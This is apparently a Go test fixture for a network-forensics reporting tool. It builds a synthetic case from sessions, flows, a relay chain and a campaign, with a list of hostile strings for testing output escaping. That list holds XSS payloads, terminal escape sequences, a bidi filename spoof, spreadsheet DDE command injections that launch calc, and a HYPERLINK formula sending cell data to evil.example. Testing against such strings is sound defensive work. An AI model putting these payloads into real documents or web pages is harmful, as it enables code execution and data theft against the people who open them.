package report

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/tracehop/tracehop/enrich"
	"github.com/tracehop/tracehop/forensics"
)

// Hostile strings carried by the hostile case: markup, script, bidi,
// terminal escapes and spreadsheet formulas.
var hostile = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(2)>`,
	`javascript:alert(3)`,
	`</script><script>alert(4)</script>`,
	`<svg onload=alert(5)><circle r=9></svg>`,
	`x{background:url(javascript:alert(6))} expression(alert(7))`,
	"evil\u202egnp.exe\u2066x\u2069",
	"\x1b]0;pwned\x07\x1b[31mred\x1b[0m",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"-2+3+cmd|' /C calc'!A0",
}

func f64(v float64) *float64 { return &v }

func ts(s string) forensics.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return forensics.NewTime(t)
}

func geo(ip, cc string, lat, lon float64, acc uint16, asn uint32, org string) *enrich.Record {
	src := []enrich.Source{{DB: "GeoIP2-City-Test", Type: "GeoIP2-City", Build: "2025-06-01", SHA256: "c1ty"}}
	return &enrich.Record{IP: netip.MustParseAddr(ip), Class: "public", Country: cc, CountryName: cc,
		Lat: f64(lat), Lon: f64(lon), AccuracyKM: acc, ASN: asn, ASOrg: org, Sources: enrich.MakeSources(src)}
}

// testCase is a small hand-made case touching every section: two inputs,
// a database, parameters, sessions, events, flows, one campaign with a
// relay chain, a problem and a cap. With hostile set, every free-text
// field carries the hostile strings.
func testCase(hostileText bool) *forensics.Case {
	h := func(i int, normal string) string {
		if hostileText {
			return hostile[i%len(hostile)]
		}
		return normal
	}
	sha1 := "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
	sha2 := "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752"
	ref := func(file, sha string, line uint64) forensics.EvidenceRef {
		return forensics.EvidenceRef{File: file, SHA256: sha, Line: line, Offset: int64(line * 100)}
	}
	all := func(normal string) string {
		if hostileText {
			return strings.Join(hostile, " ")
		}
		return normal
	}
	a1, a2, relay, victim := "203.0.113.10", "198.51.100.7", "192.0.2.55", "10.0.0.5"
	ev := func(n int, ip string, t string) forensics.Event {
		return forensics.Event{
			ID: forensics.HashID("ev", ip, t), Time: ts(t), SourceKind: "combined",
			SrcIP: netip.MustParseAddr(ip), Method: "GET", Host: h(n+10, "api.example.kr"),
			Path: h(n, "/api/v1/items/1001"), Status: 200, Bytes: 512, UserAgent: h(n+8, "curl/8.5.0"),
			Credential: "key-7781", SrcGeo: geo(ip, "US", 37.75, -97.82, 1000, 64500, h(n+3, "Example Hosting")),
			Evidence: ref("access.log", sha2, uint64(n+1)),
		}
	}
	events := []forensics.Event{
		ev(0, a1, "2025-06-24T00:03:35.123456789Z"),
		ev(1, a1, "2025-06-24T00:04:00Z"),
		ev(2, a2, "2025-06-25T13:10:00Z"),
		ev(3, a2, "2025-06-25T13:12:30Z"),
	}
	sess := func(id, ip, start, end string, lat, lon float64, cc string) forensics.Session {
		return forensics.Session{ID: id, Kind: "web", SrcIP: netip.MustParseAddr(ip), Start: ts(start), End: ts(end),
			Events: 2, Bytes: 1024, Indicators: forensics.Indicators{Credential: "key-7781", UserAgent: h(4, "curl/8.5.0"),
				PathTemplates: []string{h(5, "/api/v1/items/{id}")}, ASN: 64500, Hosting: true},
			SrcGeo:   geo(ip, cc, lat, lon, 20, 64500, "Example Hosting"),
			Evidence: []forensics.EvidenceRef{ref("access.log", sha2, 1)}}
	}
	chain := forensics.Chain{
		ID: "ch-0001",
		Hops: []forensics.Hop{
			{IP: netip.MustParseAddr(a1), Role: "origin", FirstSeen: ts("2025-06-24T00:03:30Z"), LastSeen: ts("2025-06-24T00:05:00Z"), Geo: geo(a1, "US", 37.75, -97.82, 1000, 64500, "Example Hosting")},
			{IP: netip.MustParseAddr(relay), Role: "relay", Ports: []uint16{1080}, FirstSeen: ts("2025-06-24T00:03:31Z"), LastSeen: ts("2025-06-24T00:05:01Z"), Geo: geo(relay, "NL", 52.37, 4.89, 50, 64501, "Relay BV")},
			{IP: netip.MustParseAddr(victim), Role: "target", Ports: []uint16{443}, FirstSeen: ts("2025-06-24T00:03:32Z"), LastSeen: ts("2025-06-24T00:05:02Z")},
		},
		Links: []forensics.HopLink{
			{From: a1, To: relay, Method: "onoff", Score: 0.82, Coincidences: 14, IdlePeriods: 17},
			{From: relay, To: victim, Method: "onoff", Score: 0.91, Coincidences: 15, IdlePeriods: 16, Verified: true},
		},
		Evidence: []forensics.EvidenceRef{{File: "relay.pcap", SHA256: sha1, Packet: 12, Offset: 2048}},
	}
	flow := forensics.Flow{
		ID: "fl-0001", CommunityID: "1:LQU9qZlK+B5F3KDmev6m5PMibrg=", Proto: "tcp",
		SrcIP: netip.MustParseAddr(relay), SrcPort: 50123, DstIP: netip.MustParseAddr(victim), DstPort: 443,
		Start: ts("2025-06-24T00:03:31.5Z"), End: ts("2025-06-24T00:05:01Z"), PktsOut: 40, PktsIn: 38, BytesOut: 5120, BytesIn: 90210,
		State: "closed", TLS: &forensics.TLSMeta{Version: "1.3", SNI: h(6, "api.example.kr"), JA4: "t13d1516h2_8daaf6152771_b186095e22b6"},
		SrcGeo:   geo(relay, "NL", 52.37, 4.89, 50, 64501, "Relay BV"),
		Evidence: forensics.EvidenceRef{File: "relay.pcap", SHA256: sha1, Packet: 12, Offset: 2048},
	}
	return &forensics.Case{
		ID:       h(7, "KNPA-2025-0142"),
		Examiner: h(8, "Kim Ji-woo 김지우"),
		Home:     "KR",
		Tool:     forensics.ToolInfo{Name: "tracehop", Version: "0.1.0-test", Commit: "abc123", GoVersion: "go1.26.0"},
		Inputs: []forensics.Input{
			{Path: "evidence/relay.pcap", Size: 4096, SHA256: sha1, Kind: "pcap", Records: 120, Malformed: 1},
			{Path: h(9, "evidence/access.log"), Size: 2048, SHA256: sha2, Kind: "combined", Records: 4, Malformed: 2},
		},
		Databases: []enrich.DatabaseInfo{{Name: "GeoIP2-City-Test", Path: "GeoIP2-City-Test.mmdb", Type: "GeoIP2-City", Build: "2025-06-01",
			SHA256: "c1ty", Attribution: "MaxMind test data, CC BY-SA 4.0 (" + h(10, "maxmind.com") + ")"}},
		Params:   map[string]string{"tz": "Asia/Seoul", "session.idle": "30m", "campaign.threshold": "3", "campaign.weight.strong": "3", "note": h(11, "none")},
		Flows:    []forensics.Flow{flow},
		Events:   events,
		Sessions: []forensics.Session{sess("se-a", a1, "2025-06-24T00:03:35.123456789Z", "2025-06-24T00:04:00Z", 37.75, -97.82, "US"), sess("se-b", a2, "2025-06-25T13:10:00Z", "2025-06-25T13:12:30Z", 52.37, 4.89, "NL")},
		Campaigns: []forensics.Campaign{{
			ID: "cp-0001", Score: 7.25, ScoreComponents: map[string]float64{"foreign_share": 1, "hosting_share": 1, "objects_per_session": 2.5, "regularity": 0.75},
			Label: all("key-7781 enumeration"), FirstSeen: ts("2025-06-24T00:03:35.123456789Z"), LastSeen: ts("2025-06-25T13:12:30Z"),
			Sessions: []string{"se-a", "se-b"}, Events: 4, IPs: []string{a2, a1}, Countries: map[string]int{"US": 1, "NL": 1},
			ASNs: []forensics.ASNCount{{ASN: 64500, Org: h(13, "Example Hosting"), Sessions: 2}},
			Links: []forensics.Link{
				{ID: "ln-1", Rule: "same_credential", Class: "strong", Attribute: "credential", Value: h(0, "key-7781"), Weight: 3, Sessions: []string{"se-a", "se-b"}, IPs: []string{a1, a2}, Reason: all("both sessions used API key key-7781")},
				{ID: "ln-2", Rule: "same_asn_7d", Class: "weak", Attribute: "asn", Value: "64500", Weight: 0.75, Sessions: []string{"se-a", "se-b"}, IPs: []string{a1, a2}, Reason: "same AS64500 within 7 days"},
			},
			Hops:       []forensics.Chain{chain},
			Indicators: map[string][]string{"credential": {"key-7781"}, "user_agent": {h(2, "curl/8.5.0")}},
		}},
		Chains:   []forensics.Chain{chain},
		Problems: []forensics.Problem{{File: "evidence/access.log", Line: 3, Reason: h(3, "unparsable line")}, {File: "evidence/relay.pcap", Packet: 77, Reason: "truncated packet"}},
		Caps:     []forensics.CapHit{{Cap: "line_length", File: "evidence/access.log", Count: 1}},
	}
}

func mustAddr(s string) netip.Addr { return netip.MustParseAddr(s) }

func fmtSprintf(format string, args ...any) string { return fmt.Sprintf(format, args...) }

func t0ctx() context.Context { return context.Background() }
